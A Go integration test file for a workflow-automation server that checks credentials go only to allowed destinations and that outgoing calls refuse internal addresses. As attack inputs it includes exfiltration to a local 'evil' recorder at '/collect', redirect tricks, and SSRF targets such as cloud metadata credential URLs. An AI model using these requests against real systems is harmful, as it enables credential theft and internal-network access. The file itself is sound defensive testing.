package api_test

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/ferry-hq/ferry/flows/engine"
	"github.com/ferry-hq/ferry/nodes/egress"
	"github.com/ferry-hq/ferry/server/app"
	"github.com/ferry-hq/ferry/server/auth"
	"github.com/ferry-hq/ferry/server/vault"
)

// recorder is a stand-in server that keeps what reached it.
type recorder struct {
	*httptest.Server
	mu   sync.Mutex
	seen []string // method, path, and every header and query value that could carry a secret
}

func newRecorder(t *testing.T, handler func(w http.ResponseWriter, r *http.Request)) *recorder {
	rec := &recorder{}
	rec.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		rec.mu.Lock()
		rec.seen = append(rec.seen, fmt.Sprintf("%s %s auth=%q key=%q query=%q", r.Method, r.URL.Path,
			r.Header.Get("Authorization"), r.Header.Get("X-Api-Key"), r.URL.RawQuery))
		rec.mu.Unlock()
		if handler != nil {
			handler(w, r)
			return
		}
		io.WriteString(w, `{"ok":true}`)
	}))
	t.Cleanup(rec.Close)
	return rec
}

func (r *recorder) requests() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]string(nil), r.seen...)
}

// failedStep returns the error code of the run's failed step, waiting for the run to end.
func (h *harness) failedStep(runID string) (code, message string) {
	h.t.Helper()
	h.eventually("run "+runID+" ends", func() bool { s := h.runStatus(runID); return s == "failed" || s == "succeeded" })
	run := h.expect(h.do("GET", "/api/v1/runs/"+runID, nil), 200)
	e, _ := run["error"].(map[string]any)
	if e == nil {
		h.t.Fatalf("run %s did not fail: %v", runID, run)
	}
	code, _ = e["code"].(string)
	message, _ = e["message"].(string)
	return code, message
}

// TestCredentialGoesOnlyWhereItWasStoredFor reproduces the review's first finding: an editor attaches a
// credential to core.http with a URL of their own (directly, through a redirect from the allowed host, or by
// attaching a webhook secret) and runs the flow. The secret never arrives; the step fails for good with a code
// that says why, and a test run shows the same refusal before anything is published.
func TestCredentialGoesOnlyWhereItWasStoredFor(t *testing.T) {
	each(t, func(t *testing.T, h *harness) {
		const crmToken, hookToken = "sk_live_crm_secret_1", "whsec_inbound_secret_2"
		evil := newRecorder(t, nil)
		crm := newRecorder(t, func(w http.ResponseWriter, r *http.Request) {
			if r.URL.Path == "/forward" {
				http.Redirect(w, r, evil.URL+"/collect", http.StatusTemporaryRedirect)
				return
			}
			io.WriteString(w, `{"id":"deal-1"}`)
		})
		bearer := h.expect(h.do("POST", "/api/v1/credentials", map[string]any{"name": "CRM", "type": "http.bearer",
			"allowedDestinations": []string{crm.URL}, "live": map[string]string{"token": crmToken}}), 201)
		if got := bearer["allowedDestinations"].([]any); len(got) != 1 || got[0] != crm.URL {
			t.Fatalf("allowed destinations shown: %v", bearer)
		}
		hook := h.expect(h.do("POST", "/api/v1/credentials", map[string]any{"name": "Shop webhook", "type": "webhook.token",
			"live": map[string]string{"token": hookToken}}), 201)
		stripe := h.expect(h.do("POST", "/api/v1/credentials", map[string]any{"name": "Stripe", "type": "stripe.account",
			"live": map[string]string{"secretKey": "sk_live_stripe_secret_3"}}), 201)
		editor := "Bearer " + h.userToken("editor@example.com", auth.RoleEditor)
		flow := func(name, credential, url string) string {
			doc := fmt.Sprintf(`{"schema":1,"name":%q,"nodes":[{"id":"in","type":"core.manual"},
			  {"id":"send","type":"core.http","credential":%q,"params":{"method":"POST","url":%q}}],
			  "edges":[{"source":"in","target":"send"}]}`, name, credential, url)
			return h.expect(h.do("POST", "/api/v1/flows/import?publish=true", doc, "Authorization", editor), 201)["id"].(string)
		}
		run := func(flowID string) string {
			return h.expect(h.do("POST", "/api/v1/flows/"+flowID+"/run", `{"payload":{}}`), 202)["id"].(string)
		}

		for _, c := range []struct {
			name, credential, url, code string
		}{
			{"straight to the attacker", bearer["id"].(string), evil.URL + "/collect", egress.CodeDestinationRefused},
			{"redirected by the allowed host", bearer["id"].(string), crm.URL + "/forward", egress.CodeDestinationRefused},
			{"same host, other port", bearer["id"].(string), strings.Replace(evil.URL, "127.0.0.1", "localhost", 1), egress.CodeDestinationRefused},
			{"a webhook secret", hook["id"].(string), evil.URL + "/collect", vault.CodeInboundOnly},
			{"a connector's credential", stripe["id"].(string), evil.URL + "/collect", engine.CodeCredentialTypeRefused},
		} {
			code, msg := h.failedStep(run(flow(c.name, c.credential, c.url)))
			if code != c.code {
				t.Errorf("%s: step failed with %s (%s), want %s", c.name, code, msg, c.code)
			}
		}
		for _, seen := range evil.requests() {
			t.Errorf("the attacker's server was reached: %s", seen)
		}

		// The same flow pointed at the CRM works, and the CRM got the token.
		ok := run(flow("to the CRM", bearer["id"].(string), crm.URL+"/deals"))
		h.eventually("the CRM run", func() bool { return h.runStatus(ok) == "succeeded" })
		if got := crm.requests(); len(got) != 2 || !strings.Contains(got[1], "/deals") || !strings.Contains(got[1], crmToken) {
			t.Errorf("the CRM saw %v", got)
		}

		// A test run of a draft shows the refusal, with nothing sent.
		draft := h.expect(h.do("POST", "/api/v1/flows", fmt.Sprintf(`{"schema":1,"name":"draft","nodes":[{"id":"in","type":"core.manual"},
		  {"id":"send","type":"core.http","credential":%q,"params":{"url":%q}}],"edges":[{"source":"in","target":"send"}]}`,
			bearer["id"].(string), evil.URL+"/collect"), "Authorization", editor), 201)["id"].(string)
		res := h.expect(h.do("POST", "/api/v1/flows/"+draft+"/test", `{"payload":{}}`, "Authorization", editor), 200)
		if e, _ := res["error"].(map[string]any); e == nil || e["code"] != egress.CodeDestinationRefused {
			t.Errorf("test run: %v", res["error"])
		}
		if len(evil.requests()) != 0 {
			t.Errorf("a test run reached the attacker: %v", evil.requests())
		}
	})
}

// TestOutgoingCallsRefuseInternalAddresses reproduces the review's second finding: a flow that calls an
// internal address and answers its webhook with what it got hands the caller the internal answer. With no
// internal host allowed, the loopback server, the metadata address, IPv6 loopback and a metadata host name are
// refused before a connection is made, OAuth2 token requests and connection tests too; allowing the host in the
// settings opens it at once.
func TestOutgoingCallsRefuseInternalAddresses(t *testing.T) {
	eachWith(t, func(c *app.Config) { c.AllowedInternalHosts = "" }, func(t *testing.T, h *harness) {
		internal := newRecorder(t, func(w http.ResponseWriter, r *http.Request) {
			if r.URL.Path == "/token" {
				w.Header().Set("Content-Type", "application/json")
				io.WriteString(w, `{"access_token":"internal-token","token_type":"bearer","expires_in":3600}`)
				return
			}
			io.WriteString(w, "internal-admin-secret")
		})
		port := internal.URL[strings.LastIndex(internal.URL, ":")+1:]
		doc := `{"schema":1,"name":"proxy","nodes":[
		  {"id":"hook","type":"core.webhook","params":{"respond":"respondNode"}},
		  {"id":"fetch","type":"core.http","params":{"url":"{{ trigger.body.url }}"}},
		  {"id":"answer","type":"core.respond","params":{"status":200,"body":"{{ prev.body }}"}}],
		  "edges":[{"source":"hook","target":"fetch"},{"source":"fetch","target":"answer"}]}`
		flowID := h.expect(h.do("POST", "/api/v1/flows/import?publish=true", doc), 201)["id"].(string)
		for _, target := range []string{
			internal.URL + "/admin",
			"http://localhost:" + port + "/admin",
			"http://[::1]:" + port + "/admin",
			"http://169.254.169.254/latest/meta-data/iam/security-credentials/",
			"http://metadata.google.internal/computeMetadata/v1/",
			"http://0.0.0.0:" + port + "/admin",
		} {
			res := h.do("POST", "/hooks/"+flowID, map[string]any{"url": target}, "Authorization", "")
			if strings.Contains(string(res.body), "internal-admin-secret") {
				t.Fatalf("%s: the webhook caller got the internal answer: %s", target, res.body)
			}
			runID := res.header.Get("X-Ferry-Run-Id")
			if runID == "" {
				t.Fatalf("%s: no run: %d %s", target, res.status, res.body)
			}
			if code, msg := h.failedStep(runID); code != egress.CodeAddressRefused {
				t.Errorf("%s: step failed with %s (%s), want %s", target, code, msg, egress.CodeAddressRefused)
			}
		}

		// OAuth2 token requests and connection tests go through the same guard.
		client := h.expect(h.do("POST", "/api/v1/credentials", map[string]any{"name": "ERP", "type": "oauth2.client",
			"allowedDestinations": []string{internal.URL},
			"live":                map[string]string{"clientId": "c", "clientSecret": "s", "tokenUrl": internal.URL + "/token"}}), 201)
		if got := h.expect(h.do("POST", "/api/v1/credentials/"+client["id"].(string)+"/test", nil), 200); got["ok"] != false ||
			!strings.Contains(got["message"].(string), "refused") {
			t.Errorf("OAuth2 token request to an internal address: %v", got)
		}
		meta := h.expect(h.do("POST", "/api/v1/credentials", map[string]any{"name": "Meta", "type": "http.bearer",
			"allowedDestinations": []string{"http://169.254.169.254"},
			"live":                map[string]string{"token": "t", "testUrl": "http://169.254.169.254/latest/meta-data/"}}), 201)
		if got := h.expect(h.do("POST", "/api/v1/credentials/"+meta["id"].(string)+"/test", nil), 200); got["ok"] != false ||
			!strings.Contains(got["message"].(string), "refused") {
			t.Errorf("connection test to the metadata address: %v", got)
		}
		for _, seen := range internal.requests() {
			t.Errorf("the internal server was reached: %s", seen)
		}

		// An admin allows the internal host; the same flow now reaches it, and only it.
		h.expect(h.do("PUT", "/api/v1/settings", `{"allowed-internal-hosts":["127.0.0.1"]}`), 200)
		res := h.do("POST", "/hooks/"+flowID, map[string]any{"url": internal.URL + "/admin"}, "Authorization", "")
		if res.status != 200 || !strings.Contains(string(res.body), "internal-admin-secret") {
			t.Fatalf("an allowed internal host: %d %s", res.status, res.body)
		}
		res = h.do("POST", "/hooks/"+flowID, map[string]any{"url": "http://169.254.169.254/latest/"}, "Authorization", "")
		if code, _ := h.failedStep(res.header.Get("X-Ferry-Run-Id")); code != egress.CodeAddressRefused {
			t.Errorf("the metadata address after allowing 127.0.0.1: %s", code)
		}
		if got := h.expect(h.do("POST", "/api/v1/credentials/"+client["id"].(string)+"/test", nil), 200); got["ok"] != true {
			t.Errorf("OAuth2 token request once allowed: %v", got)
		}
	})
}

// TestCredentialDestinationsAreValidated: a generic credential without destinations, or with one that is not a
// URL or a host, is refused with a stable code and nothing is stored; connector credentials show their
// provider's hosts as defaults.
func TestCredentialDestinationsAreValidated(t *testing.T) {
	each(t, func(t *testing.T, h *harness) {
		for _, body := range []map[string]any{
			{"name": "CRM", "type": "http.bearer", "live": map[string]string{"token": "t"}},
			{"name": "CRM", "type": "http.bearer", "allowedDestinations": []string{"ftp://crm"}, "live": map[string]string{"token": "t"}},
			{"name": "CRM", "type": "http.apikey", "allowedDestinations": []string{"https://user:pw@crm.example.com"}, "live": map[string]string{"name": "k", "value": "v"}},
		} {
			res := h.expect(h.do("POST", "/api/v1/credentials", body), 400)
			if res["error"].(map[string]any)["code"] != "credential_destinations_invalid" {
				t.Errorf("%v: %v", body, res)
			}
		}
		list := h.expect(h.do("GET", "/api/v1/credentials", nil), 200)["credentials"].([]any)
		if len(list) != 0 {
			t.Fatalf("a refused credential was stored: %v", list)
		}
		stripe := h.expect(h.do("POST", "/api/v1/credentials", map[string]any{"name": "Stripe", "type": "stripe.account",
			"live": map[string]string{"secretKey": "sk_live_x"}}), 201)
		if d := stripe["defaultDestinations"].([]any); len(d) != 1 || d[0] != "https://api.stripe.com" {
			t.Errorf("Stripe's default destinations: %v", stripe)
		}
		types := h.expect(h.do("GET", "/api/v1/credential-types", nil), 200)["types"].([]any)
		for _, raw := range types {
			ct := raw.(map[string]any)
			switch ct["id"] {
			case "webhook.hmac":
				if ct["inbound"] != true {
					t.Errorf("webhook.hmac is inbound only: %v", ct)
				}
			case "stripe.account":
				if ct["hasDefaultDestinations"] != true {
					t.Errorf("stripe.account has default destinations: %v", ct)
				}
			}
		}
	})
}
